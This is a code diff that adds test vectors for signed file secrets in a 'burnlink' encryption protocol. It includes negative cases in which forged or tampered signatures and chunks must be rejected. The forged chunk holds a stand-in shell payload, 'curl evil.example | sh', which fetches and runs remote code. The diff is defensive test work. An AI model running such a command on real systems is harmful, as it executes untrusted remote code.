@@ -18,6 +18,7 @@ import {
   verify,
   type JsonWebKey,
 } from 'node:crypto'
+import { aadOf, chunkPlaintext, gcm, layout, nonceOf } from './files-reference.ts'
 
 const L = 'burnlink/v1'
 const FRAME_SIZES = [256, 512, 1024, 2048, 4096, 8192, 16384, 32768, 65536]
@@ -218,6 +219,10 @@ export interface SignedNegative {
 interface Previous {
   vectors: { inputs: { sig: string } }[]
   negative: SignedNegative[]
+  files?: {
+    vector: { inputs: { sig: string; fsig_sig: string } }
+    negative: { name: string; fsig_b64u?: string }[]
+  }
 }
 
 /** The sig at the end of a previous negative's hdr, for `signature` to keep when it still verifies. */
@@ -311,5 +316,114 @@ export function signedSection(previous?: Previous) {
       'protocol.md §4–§6, format 2: each secret signed by a fixed P-256 key (inputs.signer_jwk). ECDSA is randomised, so inputs.sig is one valid signature a verifier must accept; an implementation that signs makes another, which must verify. negative: opened through the link fragment, hdr, passphrase and ct_b64u as a recipient does; error is the reason every check-order-following client reports.',
     vectors: built.map((b) => b.entry),
     negative: negatives(built[0]!.secret, built[1]!.secret, previous),
+    files: filesSignature(previous),
+  }
+}
+
+/** A format 2 file secret (protocol.md §10.7): a one-chunk file and a two-chunk one, signed by key a. */
+const FILES_CASE: Omit<Inputs, 'signer_jwk' | 'sig'> = {
+  k: 'c0c1c2c3c4c5c6c7c8c9cacbcccdcecfd0d1d2d3d4d5d6d7d8d9dadbdcdddedf',
+  mt: 'e0e1e2e3e4e5e6e7e8e9eaebecedeeeff0f1f2f3f4f5f6f7f8f9fafbfcfdfeff',
+  nonce: '505152535455565758595a5b',
+  type: 3,
+  payload_text: '',
+  signer: 'a',
+}
+const FILES = [
+  { name: 'id_ed25519', type: '', size: 100, fill: 5 },
+  { name: 'backup.tar', type: 'application/x-tar', size: 1_048_577, fill: 6 },
+]
+
+/** MF = L ‖ " files" ‖ 0x00 ‖ sid ‖ hdr ‖ D_0 ‖ … ‖ D_{F−1}. */
+const filesMessage = (sid: Uint8Array, hdr: Uint8Array, digests: Uint8Array[]) =>
+  Buffer.concat([Buffer.from(`${L} files`), Buffer.of(0), sid, hdr, ...digests])
+
+function filesSignature(previous: Previous | undefined) {
+  const manifest = JSON.stringify({ files: FILES.map(({ name, type, size }) => ({ name, type, size })) })
+  const { entry, secret } = vector(
+    { ...FILES_CASE, payload_text: manifest },
+    'signed-two-files',
+    previous?.files?.vector.inputs.sig,
+  )
+  const { sid, hdr } = secret
+  const fk = hkdf(secret.k.subarray(0, 32), sid, 'file', 32)
+  const ut = hkdf(secret.k.subarray(0, 32), Buffer.alloc(0), 'upload', 32)
+  const sealAt = (f: number, j: number, plaintext: Buffer) => {
+    const { chunks } = layout(FILES[f]!.size)
+    return gcm(fk, nonceOf(f, j, j === chunks - 1), aadOf(sid, hdr, FILES.length, chunks), plaintext)
+  }
+  const stored = FILES.map((f, i) =>
+    Array.from({ length: layout(f.size).chunks }, (_, j) => sealAt(i, j, chunkPlaintext(f.size, f.fill, j))),
+  )
+  const chunkDigests = stored.map((chunks) => chunks.map(sha256))
+  const digestsOf = (c: Buffer[][]) => c.map((list) => sha256(Buffer.concat(list)))
+  const digests = digestsOf(chunkDigests)
+  const message = filesMessage(sid, hdr, digests)
+  const previousFsig = (name: string) => {
+    const b = previous?.files?.negative.find((n) => n.name === name)?.fsig_b64u
+    return b === undefined ? undefined : hex(Buffer.from(b, 'base64url').subarray(-64))
+  }
+  const sigF = signature(KEYS.a, message, previous?.files?.vector.inputs.fsig_sig)
+  const fsig = Buffer.concat([...digests, sigF])
+  // A link holder's own bytes for file 0, sealed under fk where the creator's chunk was: its tag is valid.
+  const script = Buffer.alloc(layout(FILES[0]!.size).padded)
+  script.write('#!/bin/sh\ncurl evil.example | sh\n')
+  const forged = sealAt(0, 0, script)
+  const forgedDigests = digestsOf([[sha256(forged)], chunkDigests[1]!])
+  const otherDigests = digests.map((d) => flipBit(d, 0))
+  const overOther = signature(KEYS.a, filesMessage(sid, hdr, otherDigests), previousFsig('sig-over-other-digests'))
+  const byB = signature(KEYS.b, filesMessage(sid, hdr, forgedDigests), previousFsig('signed-by-another-key'))
+  const negative = (
+    name: string,
+    error: string,
+    why: string,
+    fields: { fsig_b64u?: string; file?: number; replace?: { chunk: number; stored_b64u: string } },
+  ) => ({
+    name,
+    ...fields,
+    error,
+    why,
+  })
+  return {
+    description:
+      "protocol.md §10.7: a format 2 file secret (its manifest signed as in §5.1 by key a) and the files signature its creator sends at the commit. chunk_digests[f][j] = SHA-256 of stored chunk j of file f, file_digests[f] = SHA-256 of their concatenation, files_message = MF, fsig_b64u = D_0 ‖ D_1 ‖ sig. Byte i of file f is (i + fill) mod 251, as in the files section. negative: fsig_b64u as a reveal returns it (absent: none), checked right after the reveal against the vector's link and hdr; with file and replace, the creator's fsig is good and file `file` is read with chunk `replace.chunk` replaced by those bytes.",
+    vector: {
+      ...entry,
+      inputs: { ...entry.inputs, files: FILES, fsig_sig: hex(sigF) },
+      outputs: {
+        ...entry.outputs,
+        fk: hex(fk),
+        ut_b64u: b64u(ut),
+        uv: hex(sha256(ut)),
+        stored: FILES.map((f) => layout(f.size).stored),
+        chunk_digests: chunkDigests.map((list) => list.map(hex)),
+        file_digests: digests.map(hex),
+        files_message: hex(message),
+        fsig_b64u: b64u(fsig),
+      },
+    },
+    negative: [
+      negative('no-fsig', 'signature', 'a reveal without fsig under a format 2 link', {}),
+      negative('truncated', 'signature', 'the last byte of fsig cut off', { fsig_b64u: b64u(fsig.subarray(0, -1)) }),
+      negative('digest-bit-flipped', 'signature', "one bit of D_0 flipped, the creator's sig kept", {
+        fsig_b64u: b64u(flipBit(fsig, 0)),
+      }),
+      negative('sig-over-other-digests', 'signature', "the true digests with a's signature over other digests", {
+        fsig_b64u: b64u(Buffer.concat([...digests, overOther])),
+      }),
+      negative('signed-by-another-key', 'signature', "a link holder's digests of their own chunks, signed by key b", {
+        fsig_b64u: b64u(Buffer.concat([...forgedDigests, byB])),
+      }),
+      negative(
+        'chunk-replaced-by-link-holder',
+        'files_digest',
+        "file 0's chunk replaced by one sealed under fk (its tag is valid) with the creator's fsig",
+        {
+          fsig_b64u: b64u(fsig),
+          file: 0,
+          replace: { chunk: 0, stored_b64u: b64u(forged) },
+        },
+      ),
+    ],
   }
 }
